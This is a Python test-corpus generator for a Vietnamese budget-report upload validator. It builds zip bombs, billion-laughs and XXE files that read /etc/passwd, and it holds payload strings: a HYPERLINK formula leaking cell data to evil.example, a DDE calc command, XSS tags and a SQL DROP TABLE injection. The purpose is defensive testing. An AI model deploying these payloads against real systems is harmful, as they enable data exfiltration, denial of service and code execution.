"""Hostile and broken uploads, each with the issue it must get: the corpus of tests/test_hostile.py.

Run: python tests/hostile/make_corpus.py OUT_DIR   (writes the files and expected.json; deterministic)

Nothing here is committed as a binary: every file is built from code, byte for byte the same each run
(zip members get a fixed timestamp). The biggest file is just over 1 MB, so the size limit case needs
CDS_MAX_UPLOAD_MB=1 (ENV below); every other file is far below it.

A Case with code None is a valid submission: HTML, script and formula-looking text in names and tasks
are data, stored exactly as written and shown as text (exports neutralise formulas, not the store).
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import struct
import sys
import unicodedata
import zipfile
from dataclasses import asdict, dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from loaders.schema import CHI_SO, DE_XUAT, INFO_HEADER, KHO_KHAN, KINH_PHI, THONG_TIN  # noqa: E402

ENV = {"CDS_MAX_UPLOAD_MB": "1"}  # the size-limit case is 1.2 MB; everything else is < 100 kB
ANY = "*"  # a place the test does not pin (the loader may legitimately report it either way)
FIXED_TIME = (2023, 11, 30, 8, 0, 0)

AGENCY = "Sở Thử nghiệm tỉnh Hà Giang"
AGENCY_CODE = "HOST-TEST"
PROVINCE = "Hà Giang"
YEAR = 2023

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(document.cookie)>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
CMD = "=cmd|' /C calc'!A0"
SQL = "Robert'); DROP TABLE submissions;--"


@dataclass(frozen=True)
class Case:
    name: str  # file name as uploaded (its extension matters)
    raw: bytes
    why: str
    code: str | None  # expected error code; None = a valid submission
    sheet: str | None = ANY
    row: int | None = ANY
    column: str | None = ANY
    also: tuple[str, ...] = ()  # other acceptable codes where two readings are both right
    stored: dict = field(default_factory=dict)  # valid cases: texts that must come back exactly

    @property
    def codes(self) -> tuple[str, ...]:
        return ((self.code,) if self.code else ()) + self.also


# --- building blocks -------------------------------------------------------------------------------------


def repack(
    raw: bytes,
    replace: dict[str, bytes | None] | None = None,
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """The zip again with fixed timestamps; members replaced (None drops one) or added, order kept."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = replace.get(info.filename, src.read(info.filename))
            if data is None:
                continue
            if info.filename == "docProps/core.xml":  # openpyxl stamps "now"
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2023-11-30T08:00:00Z", data)
            _put(dst, info.filename, data, compression)
        for name, data in add.items():
            _put(dst, name, data, compression)
    return out.getvalue()


def _put(dst: zipfile.ZipFile, name: str, data: bytes, compression: int = zipfile.ZIP_DEFLATED) -> None:
    info = zipfile.ZipInfo(name, FIXED_TIME)
    info.compress_type = compression
    info.external_attr = 0o600 << 16
    dst.writestr(info, data)


def make_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for name, data in members.items():
            _put(dst, name, data)
    return out.getvalue()


def base_info() -> dict[str, object]:
    return {
        "agency": AGENCY,
        "agency_code": AGENCY_CODE,
        "province": PROVINCE,
        "year": YEAR,
        "report_date": "30/11/2023",
        "prepared_by": "Nguyễn Văn A",
    }


def base_budget() -> list[dict[str, object]]:
    return [
        {
            "funding_source": "a",
            "decision_ref": "569/QĐ-UBND ngày 26/6/2023",
            "task": "Đảm bảo an toàn thông tin cấp độ 2",
            "allocated": 100,
            "disbursed": 60,
            "as_of": "30/11/2023",
            "expected_pct": 100,
            "procurement": "chỉ định thầu",
            "procurement_done": "10/2023",
            "contractor": "Trung tâm CNTT tỉnh",
        },
        {
            "funding_source": "b",
            "task": "Số hoá tài liệu lưu trữ",
            "allocated": 300,
            "disbursed": 120,
            "as_of": "30/11/2023",
            "expected_pct": 90,
        },
    ]


def base_indicators() -> list[dict[str, object]]:
    return [
        {"code": "dti_score", "value": "439,72", "out_of": 485, "applies_to_year": 2022},
        {"code": "platforms_used", "value": 7, "out_of": 7},
        {"code": "docs_signed_pct", "value": 100},
    ]


def base_requests() -> list[dict[str, object]]:
    return [{"year": 2024, "task": "Nâng cấp hạ tầng CNTT", "category": "hạ tầng", "amount": 40}]


BUDGET_FIRST_ROW = 2  # header on row 1, lines from row 2 (Excel numbering)


def workbook(
    info: dict | None = None,
    budget: list[dict] | None = None,
    indicators: list[dict] | None = None,
    requests: list[dict] | None = None,
    *,
    drop_sheets: tuple[str, ...] = (),
    drop_columns: dict[str, tuple[str, ...]] | None = None,
    empty_sheets: tuple[str, ...] = (),
    formulas: dict[tuple[str, str], str] | None = None,
) -> bytes:
    """A workbook in the submission format (headers on row 1), built with openpyxl, then repacked.

    Cell values that are str and start with "=" are written as text, never as formulas, unless given in
    `formulas` ({(sheet, cell): formula}), which openpyxl writes without a cached value.
    """
    from openpyxl import Workbook

    info = base_info() if info is None else info
    budget = base_budget() if budget is None else budget
    indicators = base_indicators() if indicators is None else indicators
    requests = base_requests() if requests is None else requests
    drop_columns = drop_columns or {}
    wb = Workbook()
    wb.remove(wb.active)

    def text_safe(cell, value):
        cell.value = value
        if isinstance(value, str) and value.startswith("="):
            cell.data_type = "s"  # text that looks like a formula stays text

    if "ThongTin" not in drop_sheets:
        ws = wb.create_sheet("ThongTin")
        if "ThongTin" not in empty_sheets:
            ws.append(list(INFO_HEADER))
            for col in THONG_TIN.columns:
                if col.key in info:
                    ws.append([col.vi, None])
                    text_safe(ws.cell(ws.max_row, 2), info[col.key])
    for sheet, rows in ((KINH_PHI, budget), (CHI_SO, indicators), (DE_XUAT, requests)):
        if sheet.name in drop_sheets:
            continue
        ws = wb.create_sheet(sheet.name)
        if sheet.name in empty_sheets:
            continue
        columns = [c for c in sheet.columns if c.key not in drop_columns.get(sheet.name, ())]
        ws.append([c.header for c in columns])
        for n, row in enumerate(rows):
            for j, col in enumerate(columns, start=1):
                if col.key in row:
                    text_safe(ws.cell(n + 2, j), row[col.key])
    if "KhoKhan" not in drop_sheets:
        ws = wb.create_sheet(KHO_KHAN.name)
        ws.append([c.header for c in KHO_KHAN.columns])
        ws.append(["khó khăn", "Công chức phụ trách CNTT kiêm nhiệm."])
    for (sheet, ref), formula in (formulas or {}).items():
        wb[sheet][ref] = formula
    buffer = io.BytesIO()
    wb.save(buffer)
    return repack(buffer.getvalue())


def budget_header(key: str) -> str:
    return KINH_PHI.column(key).header


def with_budget(**changes) -> list[dict]:
    """The base budget with line 1 (Excel row 2) changed."""
    rows = base_budget()
    rows[0] = {**rows[0], **changes}
    for key, value in changes.items():
        if value is None:
            rows[0].pop(key)
    return rows


def csv_table(header: list[str], rows: list[list], *, delimiter: str = ";") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows([header, *rows])
    return buffer.getvalue()


CSV_BUDGET_HEADER = [budget_header(k) for k in ("funding_source", "task", "allocated", "disbursed", "as_of")]


def csv_budget(rows: list[list] | None = None) -> str:
    rows = (
        rows
        if rows is not None
        else [
            ["a", "Đảm bảo an toàn thông tin", "100", "60", "30/11/2023"],
            ["b", "Số hoá tài liệu", "300", "120,5", "30/11/2023"],
        ]
    )
    return csv_table(CSV_BUDGET_HEADER, rows)


def billion_laughs(root_xml: bytes) -> bytes:
    """root_xml with a DOCTYPE of nested entities in front of its root element (expands to GBs if parsed)."""
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    doctype = f"<!DOCTYPE lolz [{''.join(entities)}]>".encode()
    return _insert_doctype(root_xml, doctype, b"&lol9;")


def external_entity(root_xml: bytes) -> bytes:
    doctype = b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return _insert_doctype(root_xml, doctype, b"&xxe;")


def _insert_doctype(xml: bytes, doctype: bytes, reference: bytes) -> bytes:
    decl_end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    body = xml[decl_end:]
    # Use the entity inside the first text node we find, so a parser that expands entities would hit it.
    body = re.sub(rb"<t>([^<]*)</t>", lambda m: b"<t>" + reference + m.group(1) + b"</t>", body, count=1)
    return xml[:decl_end] + doctype + body


def forge_sizes(raw: bytes, file_size: int) -> bytes:
    """The zip with every central-directory entry claiming `file_size` uncompressed bytes (a lying header)."""
    data = bytearray(raw)
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) != -1:
        struct.pack_into("<I", data, pos + 24, file_size)
        pos += 46
    return bytes(data)


def cp1258(text: str) -> bytes:
    """Windows-1258 as Vietnamese Windows writes it: precomposed letter where one exists, plus a tone mark."""
    out = bytearray()
    for ch in text:
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            tones = "".join(m for m in parts[1:] if m in "\u0300\u0301\u0303\u0309\u0323")
            rest = "".join(m for m in parts[1:] if m not in tones)
            out += (unicodedata.normalize("NFC", parts[0] + rest) + tones).encode("cp1258")
    return bytes(out)


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole2(payload: str) -> bytes:
    """An OLE2 compound-file header (as Excel writes .xls and password-protected .xlsx) plus filler."""
    header = OLE2 + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\x00" * 476
    stream = payload.encode("utf-16-le")
    return header + stream + b"\x00" * (4096 - len(stream))


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
    b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >>"
    b" endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)


# --- the corpus --------------------------------------------------------------------------------------------


def corpus() -> list[Case]:
    """Every case, in a fixed order."""
    base = workbook()
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        sheet1 = z.read("xl/worksheets/sheet1.xml")
        workbook_xml = z.read("xl/workbook.xml")
        content_types = z.read("[Content_Types].xml")
    rng = random.Random(2023)
    kp = "KinhPhi"
    r1 = BUDGET_FIRST_ROW
    cases: list[Case] = []
    add = cases.append

    # The file as a whole (loaders/safety.py), before any parser sees it.
    add(
        Case(
            "qua-lon.xlsx",
            repack(base, add={"xl/media/image1.png": rng.randbytes(1_250_000)}, compression=zipfile.ZIP_STORED),
            "1.2 MB of incompressible picture: above CDS_MAX_UPLOAD_MB=1",
            "file-too-large",
            None,
            None,
            None,
        )
    )
    add(Case("rong.xlsx", b"", "0 bytes", "empty-file", None, None, None))
    add(Case("rong.csv", b"", "0 bytes CSV", "empty-file", None, None, None))
    add(
        Case(
            "bom-ty-le.xlsx",
            repack(base, add={"xl/media/bom.bin": b"\0" * 30_000_000}),
            "30 MB of zeros deflated to ~30 kB (ratio ~1000)",
            "zip-bomb",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "bom-nhieu-phan.xlsx",
            repack(base, add={f"xl/media/p{i}.bin": b"" for i in range(2100)}),
            "2100 zip members (limit 2000)",
            "zip-bomb",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "bom-tong-dung-luong.xlsx",
            forge_sizes(repack(base, add={f"xl/media/big{i}.bin": b"x" * 1000 for i in range(3)}), 90_000_000),
            "central directory claims 90 MB per member, ~1 GB in all",
            "zip-bomb",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "billion-laughs-sheet.xlsx",
            repack(base, replace={"xl/worksheets/sheet1.xml": billion_laughs(sheet1)}),
            "nested entities in a worksheet",
            "xml-entities",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "billion-laughs-workbook.xlsx",
            repack(base, replace={"xl/workbook.xml": billion_laughs(workbook_xml)}),
            "nested entities in xl/workbook.xml",
            "xml-entities",
            None,
            None,
            None,
        )
    )
    # The downloadable template itself (loaders/template.py), patched: what an attacker would start from.
    from loaders.template import write_workbook

    template = write_workbook(None)
    with zipfile.ZipFile(io.BytesIO(template)) as z:
        part = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in z.namelist() else "xl/worksheets/sheet2.xml"
        template_part, template_styles = z.read(part), z.read("xl/styles.xml")
    add(
        Case(
            "xxe-mau-bao-cao.xlsx",
            repack(template, replace={part: external_entity(template_part)}),
            f"the template with an external entity file:///etc/passwd in {part}",
            "xml-entities",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "billion-laughs-mau-styles.xlsx",
            repack(template, replace={"xl/styles.xml": billion_laughs(template_styles)}),
            "the template with nested entities in xl/styles.xml",
            "xml-entities",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "xxe-content-types.xlsx",
            repack(base, replace={"[Content_Types].xml": external_entity(content_types)}),
            "external entity in [Content_Types].xml",
            "xml-entities",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "xxe-utf16.xlsx",
            repack(
                base,
                replace={
                    "xl/worksheets/sheet1.xml": external_entity(sheet1)
                    .decode()
                    .replace('encoding="UTF-8"', 'encoding="UTF-16"')
                    .encode("utf-16")
                },
            ),
            "external entity in a UTF-16 worksheet",
            "xml-entities",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "mat-khau.xlsx",
            ole2("EncryptionInfo EncryptedPackage"),
            "password-protected workbook: an OLE2 container named .xlsx",
            "legacy-or-encrypted",
            None,
            None,
            None,
        )
    )
    add(Case("excel-2003.xls", ole2("Workbook"), "Excel 97-2003 file", "legacy-or-encrypted", None, None, None))
    add(
        Case(
            "nhi-phan.xlsb",
            make_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\0" * 64}),
            ".xlsb",
            "unsupported-format",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "bang-tinh.ods",
            make_zip(
                {
                    "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                    "content.xml": b"<office:document-content/>",
                }
            ),
            ".ods",
            "unsupported-format",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "co-macro.xlsm",
            repack(base, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
            ".xlsm",
            "unsupported-format",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "macro-doi-ten.xlsx",
            repack(base, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
            "macro-enabled workbook renamed .xlsx",
            "unsupported-format",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "ods-doi-ten.xlsx",
            make_zip(
                {
                    "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                    "content.xml": b"<office:document-content/>",
                }
            ),
            "OpenDocument spreadsheet renamed .xlsx",
            "unsupported-format",
            None,
            None,
            None,
        )
    )
    add(Case("bao-cao.pdf", PDF, "a PDF uploaded as is", "unsupported-format", None, None, None))
    add(Case("pdf-doi-ten.xlsx", PDF, "a PDF renamed .xlsx", "not-a-workbook", None, None, None))
    add(Case("anh-doi-ten.xlsx", PNG, "a PNG renamed .xlsx", "not-a-workbook", None, None, None))
    add(
        Case(
            "van-ban-doi-ten.xlsx",
            "Báo cáo chuyển đổi số năm 2023\n".encode() * 20,
            "plain text renamed .xlsx",
            "not-a-workbook",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "word-doi-ten.xlsx",
            make_zip(
                {
                    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                    b'content-types"/>',
                    "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
                    b"</Relationships>",
                    "word/document.xml": b"<w:document/>",
                }
            ),
            "a Word .docx renamed .xlsx",
            "not-a-workbook",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "cat-ngang.xlsx",
            base[: len(base) // 2],
            "a workbook cut in half (interrupted download)",
            "not-a-workbook",
            None,
            None,
            None,
            also=("unreadable-file",),
        )
    )
    add(Case("pdf-doi-ten.csv", PDF, "a PDF renamed .csv", "unreadable-file", None, None, None))
    add(
        Case(
            "nhi-phan-doi-ten.csv",
            b"\x00\x01\x02\x03binary\x00\xff" * 50,
            "binary bytes renamed .csv",
            "unreadable-file",
            None,
            None,
            None,
        )
    )
    add(
        Case(
            "cong-thuc-chua-tinh.xlsx",
            workbook(
                formulas={(kp, f"D{r1 + 2}"): f"=D{r1}+D{r1 + 1}"},
                budget=base_budget() + [{"funding_source": "c", "task": "Cộng hai dòng trên"}],
            ),
            "openpyxl formula: no cached value",
            "formula-no-value",
            kp,
            r1 + 2,
            "D",
        )
    )

    # Structure.
    from openpyxl import Workbook

    empty_book = io.BytesIO()
    Workbook().save(empty_book)
    add(
        Case(
            "so-trong.xlsx",
            repack(empty_book.getvalue()),
            "a new empty workbook (one blank Sheet)",
            "missing-sheet",
            ANY,
            None,
            None,
            also=("no-data",),
        )
    )
    add(
        Case(
            "trang-kinh-phi-trong.xlsx",
            workbook(empty_sheets=(kp,)),
            "KinhPhi exists but is blank",
            "empty-sheet",
            kp,
            None,
            None,
        )
    )
    add(
        Case(
            "thieu-trang-kinh-phi.xlsx",
            workbook(drop_sheets=("KinhPhi",)),
            "no KinhPhi sheet (ChiSo and DeXuat may be absent: format §2)",
            "missing-sheet",
            "KinhPhi",
            None,
            None,
        )
    )
    add(
        Case(
            "thieu-trang-thong-tin.xlsx",
            workbook(drop_sheets=("ThongTin",)),
            "no ThongTin sheet",
            "missing-sheet",
            "ThongTin",
            None,
            None,
        )
    )
    add(
        Case(
            "thieu-cot-nhiem-vu.xlsx",
            workbook(drop_columns={kp: ("task",)}),
            "KinhPhi without Nhiệm vụ",
            "missing-column",
            kp,
            1,
            "Nhiệm vụ",
        )
    )
    add(
        Case(
            "thieu-cot-gia-tri.xlsx",
            workbook(drop_columns={"ChiSo": ("value",)}),
            "ChiSo without Giá trị",
            "missing-column",
            "ChiSo",
            1,
            "Giá trị",
        )
    )
    add(
        Case(
            "thieu-truong-don-vi.xlsx",
            workbook(info={k: v for k, v in base_info().items() if k != "agency"}),
            "ThongTin without Đơn vị",
            "missing-field",
            "ThongTin",
            ANY,
            "Đơn vị",
        )
    )
    add(
        Case(
            "o-bat-buoc-trong.xlsx",
            workbook(budget=with_budget(task=None)),
            "a budget line without its task",
            "required-empty",
            kp,
            r1,
            budget_header("task"),
        )
    )

    # Cells.
    add(
        Case(
            "chu-trong-o-tien.xlsx",
            workbook(budget=with_budget(allocated="một trăm")),
            "text in a money cell",
            "not-a-number",
            kp,
            r1,
            budget_header("allocated"),
        )
    )
    add(
        Case(
            "so-am.xlsx",
            workbook(budget=with_budget(allocated=-5, disbursed=0)),
            "a negative allocation",
            "negative-amount",
            kp,
            r1,
            budget_header("allocated"),
        )
    )
    add(
        Case(
            "giai-ngan-vuot.xlsx",
            workbook(budget=with_budget(disbursed=150)),
            "disbursed 150 > allocated 100",
            "disbursed-over-allocated",
            kp,
            r1,
            budget_header("disbursed"),
        )
    )
    add(
        Case(
            "ty-le-150.xlsx",
            workbook(budget=with_budget(expected_pct=150)),
            "expected 150 %",
            "pct-out-of-range",
            kp,
            r1,
            budget_header("expected_pct"),
        )
    )
    add(
        Case(
            "chi-so-ty-le-150.xlsx",
            workbook(indicators=base_indicators()[:2] + [{"code": "docs_signed_pct", "value": 150}]),
            "docs_signed_pct = 150",
            "pct-out-of-range",
            "ChiSo",
            4,
            "Giá trị",
        )
    )
    add(
        Case(
            "vuot-tren-tong.xlsx",
            workbook(indicators=[base_indicators()[0], {"code": "platforms_used", "value": 8, "out_of": 7}]),
            "8 platforms out of 7",
            "value-over-out-of",
            "ChiSo",
            3,
            "Giá trị",
        )
    )
    add(
        Case(
            "nam-1999.xlsx",
            workbook(info={**base_info(), "year": 1999}),
            "report year 1999",
            "year-out-of-range",
            "ThongTin",
            5,
            "Năm báo cáo",
        )
    )
    add(
        Case(
            "de-xuat-nam-2099.xlsx",
            workbook(requests=[{**base_requests()[0], "year": 2099}]),
            "request for 2099",
            "year-out-of-range",
            "DeXuat",
            2,
            "Năm",
        )
    )
    add(
        Case(
            "ngay-30-02.xlsx",
            workbook(info={**base_info(), "report_date": "30/02/2023"}),
            "report date 30/02/2023",
            "bad-date",
            "ThongTin",
            6,
            "Ngày báo cáo",
        )
    )
    add(
        Case(
            "ngay-so-lieu-sai.xlsx",
            workbook(budget=with_budget(as_of="hôm qua")),
            "as-of date 'hôm qua'",
            "bad-date",
            kp,
            r1,
            budget_header("as_of"),
        )
    )
    add(
        Case(
            "thang-13.xlsx",
            workbook(budget=with_budget(procurement_done="13/2023")),
            "month 13/2023",
            "bad-month",
            kp,
            r1,
            budget_header("procurement_done"),
        )
    )
    add(
        Case(
            "nguon-z.xlsx",
            workbook(budget=with_budget(funding_source="z")),
            "funding source 'z'",
            "bad-funding-source",
            kp,
            r1,
            budget_header("funding_source"),
        )
    )

    # CSV (one table per file; agency and year from the file name).
    bad_bytes = "a;Nhiệm vụ ".encode() + b"\x81\x8d\x8f\x90" + b";100;60;30/11/2023\r\n"
    body = csv_budget().encode("utf-8") + bad_bytes
    body += b"" if len(body) % 2 else b" "  # odd length: not UTF-16 either
    add(
        Case(
            "HOST-CSV_2023_kinhphi.csv",
            body,
            "bytes 0x81 0x8D 0x8F 0x90: undefined in UTF-8 and cp1258",
            "bad-encoding",
            ANY,
            ANY,
            ANY,
        )
    )  # the message names the line
    add(
        Case(
            "HOST-CSV_2023_bang-la.csv",
            csv_table(["Cột A", "Cột B"], [["1", "2"]]).encode("utf-8"),
            "headers of no known table",
            "unknown-csv-table",
            ANY,
            ANY,
            ANY,
        )
    )
    add(
        Case(
            "khong-ro-don-vi.csv",
            csv_budget().encode("utf-8"),
            "no agency/year column, no <code>_<year> name",
            "missing-agency-year",
            ANY,
            ANY,
            ANY,
        )
    )
    add(
        Case(
            "HOST-CSV_2023_chu-trong-o-tien.csv",
            csv_budget([["a", "Nhiệm vụ 1", "mười", "", ""]]).encode("utf-8-sig"),
            "text in a CSV money cell",
            "not-a-number",
            kp,
            2,
            budget_header("allocated"),
        )
    )
    add(
        Case(
            "HOST-CSV_2023_so-am.csv",
            cp1258(csv_budget([["a", "Nhiệm vụ 1", "-100", "", ""]])),
            "negative amount, Windows-1258",
            "negative-amount",
            kp,
            2,
            budget_header("allocated"),
        )
    )

    # Valid: hostile-looking text is data, kept exactly.
    add(
        Case(
            "html-don-vi.xlsx",
            workbook(info={**base_info(), "agency": AGENCY + " " + SCRIPT}),
            "script tag in the agency name",
            None,
            stored={"agency": AGENCY + " " + SCRIPT},
        )
    )
    add(
        Case(
            "html-nhiem-vu.xlsx",
            workbook(budget=with_budget(task=IMG + " Nhiệm vụ có thẻ ảnh")),
            "img onerror in a task",
            None,
            stored={"tasks": [IMG + " Nhiệm vụ có thẻ ảnh", base_budget()[1]["task"]]},
        )
    )
    add(
        Case(
            "cong-thuc-hyperlink.xlsx",
            workbook(budget=with_budget(task=HYPERLINK), requests=[{**base_requests()[0], "task": CMD}]),
            "formula-looking text (HYPERLINK, DDE) in tasks, written as text cells",
            None,
            stored={"tasks": [HYPERLINK, base_budget()[1]["task"]], "request_tasks": [CMD]},
        )
    )
    add(
        Case(
            "sql-trong-ten.xlsx",
            workbook(info={**base_info(), "prepared_by": SQL}, budget=with_budget(note=SQL + " \u202etxt.exe")),
            "SQL and a right-to-left override in text",
            None,
            stored={"prepared_by": SQL, "notes": [SQL + " \u202etxt.exe", None]},
        )
    )
    add(
        Case(
            "HOST-CSV_2023_kinhphi-html.csv",
            csv_budget([["a", SCRIPT, "100", "60", "30/11/2023"], ["b", HYPERLINK, "20", "", ""]]).encode("utf-8"),
            "script and formula text in a CSV",
            None,
            stored={"tasks": [SCRIPT, HYPERLINK]},
        )
    )
    add(
        Case(
            "hop-le.xlsx",
            base,
            "the untouched base: every refusal above is the one fault added",
            None,
            stored={"agency": AGENCY},
        )
    )
    return cases


def write(out_dir: Path, cases: list[Case] | None = None) -> list[Path]:
    """Write every case to out_dir plus expected.json; return the file paths in corpus order."""
    out_dir.mkdir(parents=True, exist_ok=True)
    paths, expected = [], []
    for case in cases or corpus():
        path = out_dir / case.name
        path.write_bytes(case.raw)
        paths.append(path)
        expected.append({k: v for k, v in asdict(case).items() if k != "raw"})
    (out_dir / "expected.json").write_text(json.dumps(expected, ensure_ascii=False, indent=1), encoding="utf-8")
    return paths


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/hostile/make_corpus.py OUT_DIR")
    written = write(Path(sys.argv[1]))
    print(f"{len(written)} files in {sys.argv[1]}")
